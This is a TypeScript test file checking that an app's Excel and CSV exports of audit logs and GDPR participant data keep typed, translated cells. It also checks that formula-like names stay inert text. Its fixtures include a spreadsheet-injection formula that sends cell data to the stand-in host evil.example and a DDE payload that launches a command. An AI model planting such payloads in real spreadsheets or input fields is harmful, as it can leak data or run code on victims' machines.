/**
 * Excel (and translated CSV) exports of the audit log and of one participant (GDPR): typed cells read back with
 * exceljs, translated sheet names, headers and coded values, formula-like text kept as text, one audit event per
 * export.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import ExcelJS from "exceljs";
import { appDb, withAdmin } from "../support/db.ts";
import { addMember, createTenantWithStaff, createUser, expectAppError, type Tenant } from "./helpers/coordinator.ts";
import { withTenant, type TenantContext } from "../../lib/db/tenant.ts";
import { registerParticipant } from "../../lib/participants/register-participant.ts";
import { registerParticipantSchema } from "../../lib/participants/schemas.ts";
import { addActivity } from "../../lib/pathways/add-activity.ts";
import { addActivitySchema } from "../../lib/pathways/schemas.ts";
import { enrolParticipant } from "../../lib/enrolments/enrol-participant.ts";
import { exitEnrolment } from "../../lib/enrolments/exit-enrolment.ts";
import { recordOutcome } from "../../lib/outcomes/record-outcome.ts";
import { recordOutcomeSchema } from "../../lib/outcomes/schemas.ts";
import { exportParticipant } from "../../lib/participants/gdpr.ts";
import { participantXlsx } from "../../lib/participants/gdpr-xlsx.ts";
import { exportAuditLog } from "../../lib/audit/export-audit.ts";

let t: Tenant;
/** A member whose name is a formula: it shows up in the audit log's user column. */
let formulaUser: TenantContext;
const FORMULA_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
const FORMULA_ORG = "=cmd|' /C calc'!A0";
const NOTE = "+47 99 88 77 66 rang";
const OUTCOME_NOTE = "@SUM(1,2)";
let participantId: string;
let participantCode: string;

async function load(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  return workbook;
}

/** A row's cells 1…n: values and types. */
function cells(sheet: ExcelJS.Worksheet, row: number, count = sheet.columnCount) {
  return Array.from({ length: count }, (_, i) => sheet.getRow(row).getCell(i + 1));
}

const headers = (sheet: ExcelJS.Worksheet) => cells(sheet, 1).map((c) => c.value);

/** This tenant's audit events of one action (as the database owner, past row-level security). */
async function auditEvents(action: string, participant?: string) {
  return withAdmin(
    async (c) =>
      (
        await c.query(
          `select details from "AuditEvent" where "tenantId" = $1 and action = $2 ${participant ? `and "participantId" = $3` : ""} order by at`,
          participant ? [t.tenantId, action, participant] : [t.tenantId, action],
        )
      ).rows as { details: unknown }[],
  );
}

/** Oslo's wall-clock time of a moment, as the UTC fields of a Date (what the cell must show). */
function osloClock(at: Date): Date {
  const f = new Intl.DateTimeFormat("sv-SE", {
    timeZone: "Europe/Oslo",
    year: "numeric",
    month: "2-digit",
    day: "2-digit",
    hour: "2-digit",
    minute: "2-digit",
    second: "2-digit",
  });
  return new Date(`${f.format(at).replace(" ", "T")}.${String(at.getUTCMilliseconds()).padStart(3, "0")}Z`);
}

beforeAll(async () => {
  t = await createTenantWithStaff("xlsx");
  formulaUser = await addMember(t, (await createUser(FORMULA_NAME)).id, "COORDINATOR");
  const organisation = await withTenant(
    t,
    (tx) => tx.organisation.create({ data: { tenantId: t.tenantId, name: FORMULA_ORG, type: "BUSINESS" } }),
    { client: appDb() },
  );
  const p = await registerParticipant({
    ctx: formulaUser,
    data: registerParticipantSchema.parse({
      name: "Xlsx Testperson",
      birthYear: "1977",
      gender: "FEMALE",
      arrivalYear: "2015",
      languages: "ti, nb",
      targetGroup: "SETTLED_REFUGEE",
      consentFollowUp: "on",
      consentStatistics: "on",
      consentDate: "2015-01-10",
    }),
  });
  participantId = p.id;
  participantCode = p.code;
  await withTenant(
    t,
    (tx) => tx.participant.updateMany({ where: { tenantId: t.tenantId, id: p.id }, data: { externalRef: "OLD-42" } }),
    { client: appDb() },
  );
  await addActivity({
    ctx: t.coordinator,
    participantId: p.id,
    data: addActivitySchema.parse({
      type: "WORK_PRACTICE",
      status: "COMPLETED",
      startDate: "2015-02-01",
      endDate: "2016-03-01",
      hoursPerWeek: "7,5",
      note: NOTE,
      organisationId: organisation.id,
    }),
  });
  const enrolment = await enrolParticipant({
    ctx: t.coordinator,
    participantId: p.id,
    data: { pilotId: t.pilotId, startDate: new Date("2015-02-01") },
  });
  await exitEnrolment({
    ctx: t.coordinator,
    participantId: p.id,
    enrolmentId: enrolment.id,
    data: { exitDate: new Date("2016-03-01"), exitReason: "GOT_JOB" },
  });
  await recordOutcome({
    ctx: t.coordinator,
    participantId: p.id,
    data: recordOutcomeSchema.parse({
      enrolmentId: enrolment.id,
      point: "AT_EXIT",
      status: "PERMANENT_JOB",
      workingTime: "FULL_TIME",
      observedAt: "2016-03-01",
      note: OUTCOME_NOTE,
      organisationId: organisation.id,
    }),
  });
});
afterAll(async () => {
  await appDb().$disconnect();
});

describe("audit log export", () => {
  it("writes Excel with Norwegian headers, date-time cells, text cells for formula-like names, and audits it once", async () => {
    const before = await auditEvents("audit.exported");
    const file = await exportAuditLog(t.admin, {}, { format: "xlsx", locale: "nb" });
    expect(file.contentType).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    expect(file.filename).toBe(`samspill-${t.slug}-audit.xlsx`);
    const workbook = await load(file.body as Buffer);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(["Logg"]);
    const sheet = workbook.worksheets[0];
    expect(headers(sheet)).toEqual(["Tidspunkt", "Bruker", "Handling", "Objekttype", "Objekt-ID", "Deltakerkode"]);

    // Every event of the tenant, newest first, with the time as a date-time cell in Oslo time.
    const stored = await withAdmin(
      async (c) =>
        (
          await c.query(
            `select at, action from "AuditEvent" where "tenantId" = $1 and action <> 'audit.exported' order by at desc`,
            [t.tenantId],
          )
        ).rows as { at: Date; action: string }[],
    );
    expect(sheet.rowCount).toBe(stored.length + 1);
    stored.forEach((event, i) => {
      const [time, , action] = cells(sheet, i + 2);
      expect(time.type).toBe(ExcelJS.ValueType.Date);
      expect(time.value).toBeInstanceOf(Date);
      expect(Math.abs((time.value as Date).getTime() - osloClock(event.at).getTime())).toBeLessThan(1000);
      expect(time.numFmt).toBe("yyyy-mm-dd hh:mm:ss");
      expect(action.value).toBe(event.action);
    });

    // The member named like a formula registered the participant: a text cell with exactly that text, no formula.
    const registered = sheet.getRows(2, sheet.rowCount - 1)!.find((r) => r.getCell(3).value === "participant.created")!;
    expect(registered.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(registered.getCell(2).value).toBe(FORMULA_NAME);
    expect(registered.getCell(2).formula).toBeUndefined();
    expect(registered.getCell(6).value).toBe(participantCode);

    const after = await auditEvents("audit.exported");
    expect(after.length).toBe(before.length + 1);
    expect(after.at(-1)!.details).toEqual({ rows: stored.length, format: "xlsx" });
  });

  it("writes CSV with the same filters and headers in the reader's language, and audits it once", async () => {
    const before = await auditEvents("audit.exported");
    const file = await exportAuditLog(
      t.admin,
      { participant: participantCode.toLowerCase() },
      { format: "csv", locale: "sv" },
    );
    expect(file.contentType).toBe("text/csv; charset=utf-8");
    const lines = (file.body as string)
      .replace(/^\uFEFF/, "")
      .trim()
      .split("\r\n");
    expect(lines[0]).toBe("Tidpunkt;Användare;Händelse;Objekttyp;Objekt-id;Deltagarkod");
    const forParticipant = await auditEvents("participant.created", participantId);
    expect(forParticipant.length).toBe(1);
    // Only this participant's events; the formula-like name neutralised with a leading apostrophe.
    expect(lines.slice(1).every((l) => l.endsWith(`;${participantCode}`))).toBe(true);
    // (Quoted, as it holds a comma.)
    expect(lines.some((l) => l.includes(`;"'${FORMULA_NAME.replace(/"/g, '""')}";participant.created;`))).toBe(true);
    const after = await auditEvents("audit.exported");
    expect(after.length).toBe(before.length + 1);
    expect(after.at(-1)!.details).toEqual({ rows: lines.length - 1, format: "csv" });

    // Filtered the same way, the Excel file has the same rows.
    const xlsx = await load(
      (await exportAuditLog(t.admin, { participant: participantCode }, { format: "xlsx", locale: "en" }))
        .body as Buffer,
    );
    expect(headers(xlsx.worksheets[0])).toEqual([
      "Time",
      "User",
      "Action",
      "Object type",
      "Object ID",
      "Participant code",
    ]);
    expect(xlsx.worksheets[0].rowCount).toBe(lines.length);
  });

  it("is for administrators only, and a refused export is not audited", async () => {
    const before = await auditEvents("audit.exported");
    await expectAppError(() => exportAuditLog(t.coordinator, {}, { format: "xlsx", locale: "en" }), "NOT_FOUND");
    expect((await auditEvents("audit.exported")).length).toBe(before.length);
  });
});

describe("GDPR export of a participant", () => {
  it("includes the external reference in the JSON and audits each export once, with its format", async () => {
    const data = await exportParticipant(t.admin, participantId);
    expect(data.participant).toMatchObject({ code: participantCode, externalRef: "OLD-42", birthYear: 1977 });
    const events = await auditEvents("participant.exported", participantId);
    expect(events.length).toBe(1);
    expect(events[0].details).toBeNull();
    await exportParticipant(t.admin, participantId, { format: "xlsx" });
    const after = await auditEvents("participant.exported", participantId);
    expect(after.length).toBe(2);
    expect(after[1].details).toEqual({ format: "xlsx" });
  });

  it("writes one translated sheet per part with typed cells, translated labels and formula-like text as text", async () => {
    const data = await exportParticipant(t.admin, participantId, { format: "xlsx" });
    const auditedBefore = (await auditEvents("participant.exported", participantId)).length;
    const workbook = await load(await participantXlsx(data, "sv"));
    // Building the workbook is not another export.
    expect((await auditEvents("participant.exported", participantId)).length).toBe(auditedBefore);
    expect(workbook.worksheets.map((s) => s.name)).toEqual([
      "Deltagare",
      "Samtycken",
      "Piloter",
      "Aktiviteter",
      "Resultat",
      "Åtkomstlogg",
    ]);
    const [person, consents, enrolments, activities, outcomes, log] = workbook.worksheets;

    expect(headers(person)).toEqual([
      "Kod",
      "Referens i tidigare system",
      "Namn",
      "Födelseår",
      "Kön",
      "Målgrupp",
      "Ankomstår",
      "Språk",
      "Status",
      "Anonym registrering",
      "Ansvarig samordnare",
      "Registrerad",
      "Exporterad",
      "Rättslig grund",
      "Annan rättslig grund",
    ]);
    const p = cells(person, 2, 13);
    expect(p.map((c) => c.value).slice(0, 11)).toEqual([
      participantCode,
      "OLD-42",
      "Xlsx Testperson",
      1977,
      "Kvinna",
      "Nyanländ flykting",
      2015,
      "ti, nb",
      "Avslutad",
      false,
      FORMULA_NAME,
    ]);
    expect(p[3].type).toBe(ExcelJS.ValueType.Number);
    // The registering member became the coordinator: the formula-like name is a text cell.
    expect(p[10].type).toBe(ExcelJS.ValueType.String);
    expect(p[10].formula).toBeUndefined();
    expect(p[9].type).toBe(ExcelJS.ValueType.Boolean);
    expect(p[6].type).toBe(ExcelJS.ValueType.Number);
    for (const moment of [p[11], p[12]]) {
      expect(moment.type).toBe(ExcelJS.ValueType.Date);
      expect(moment.value).toBeInstanceOf(Date);
    }
    expect(Math.abs((p[12].value as Date).getTime() - osloClock(new Date(data.exportedAt)).getTime())).toBeLessThan(
      1000,
    );

    expect(headers(consents)).toEqual(["Ändamål", "Partnerorganisation", "Lämnat", "Återkallat"]);
    expect(consents.rowCount).toBe(3);
    const consentRows = [2, 3].map((r) => cells(consents, r, 4));
    expect(consentRows.map((c) => c[0].value).sort()).toEqual([
      "Användning i aggregerad statistik",
      "Uppföljning i programmet",
    ]);
    for (const c of consentRows) {
      expect(c[2].value).toEqual(new Date("2015-01-10T00:00:00Z"));
      expect(c[2].numFmt).toBe("yyyy-mm-dd");
      expect(c[3].value).toBeNull();
    }

    expect(headers(enrolments)).toEqual([
      "Pilot",
      "Typ av pilot",
      "Startdatum",
      "Datum för avslut",
      "Orsak till avslut",
    ]);
    expect(cells(enrolments, 2, 5).map((c) => c.value)).toEqual([
      "Pilot",
      "Annan pilot",
      new Date("2015-02-01T00:00:00Z"),
      new Date("2016-03-01T00:00:00Z"),
      "Fick arbete",
    ]);

    expect(headers(activities)).toEqual([
      "Aktivitet",
      "Status",
      "Organisation",
      "Startdatum",
      "Slutdatum",
      "Timmar per vecka",
      "Anteckning",
    ]);
    const a = cells(activities, 2, 7);
    expect(a.map((c) => c.value)).toEqual([
      "Praktik",
      "Avslutad",
      FORMULA_ORG,
      new Date("2015-02-01T00:00:00Z"),
      new Date("2016-03-01T00:00:00Z"),
      7.5,
      NOTE,
    ]);
    expect(a[3].type).toBe(ExcelJS.ValueType.Date);
    expect(a[5].type).toBe(ExcelJS.ValueType.Number);
    for (const text of [a[2], a[6]]) {
      expect(text.type).toBe(ExcelJS.ValueType.String);
      expect(text.formula).toBeUndefined();
    }

    expect(headers(outcomes)).toEqual([
      "Uppföljningstidpunkt",
      "Status",
      "Arbetstid",
      "Arbetsgivare eller skola",
      "Datum för statusen",
      "Anteckning",
    ]);
    const o = cells(outcomes, 2, 6);
    expect(o.map((c) => c.value)).toEqual([
      "Vid avslut",
      "Tillsvidareanställning",
      "Heltid",
      FORMULA_ORG,
      new Date("2016-03-01T00:00:00Z"),
      OUTCOME_NOTE,
    ]);
    expect(o[3].type).toBe(ExcelJS.ValueType.String);
    expect(o[5].type).toBe(ExcelJS.ValueType.String);

    // The access log: every event about the participant up to the export, the time as a date-time cell.
    expect(headers(log)).toEqual(["Tidpunkt", "Händelse", "Användare (id)"]);
    expect(log.rowCount).toBe(data.accessLog.length + 1);
    data.accessLog.forEach((event, i) => {
      const [time, action, user] = cells(log, i + 2, 3);
      expect(time.type).toBe(ExcelJS.ValueType.Date);
      expect(Math.abs((time.value as Date).getTime() - osloClock(event.at).getTime())).toBeLessThan(1000);
      expect(action.type).toBe(ExcelJS.ValueType.String);
      expect(user.value).toBe(event.actorId);
    });
    const actions = log.getRows(2, log.rowCount - 1)!.map((r) => [r.getCell(2).value, r.getCell(3).value]);
    expect(actions).toContainEqual(["Registrerade deltagare", formulaUser.userId]);
    expect(actions).toContainEqual(["Lade till aktivitet", t.coordinator.userId]);
  });

  it("writes the sheets in Norwegian and English too", async () => {
    const data = await exportParticipant(t.admin, participantId, { format: "xlsx" });
    const nb = await load(await participantXlsx(data, "nb"));
    expect(nb.worksheets.map((s) => s.name)).toEqual([
      "Deltaker",
      "Samtykker",
      "Piloter",
      "Aktiviteter",
      "Resultater",
      "Tilgangslogg",
    ]);
    expect(
      cells(nb.worksheets[0], 2, 6)
        .map((c) => c.value)
        .slice(4),
    ).toEqual(["Kvinne", "Bosatt flyktning"]);
    const en = await load(await participantXlsx(data, "en"));
    expect(en.worksheets.map((s) => s.name)).toEqual([
      "Participant",
      "Consents",
      "Pilots",
      "Activities",
      "Outcomes",
      "Access log",
    ]);
    expect(headers(en.worksheets[3])).toContain("Hours per week");
  });

  it("is for administrators only, and a refused export is not audited", async () => {
    const before = (await auditEvents("participant.exported", participantId)).length;
    await expectAppError(() => exportParticipant(t.coordinator, participantId, { format: "xlsx" }), "NOT_FOUND");
    expect((await auditEvents("participant.exported", participantId)).length).toBe(before);
  });
});
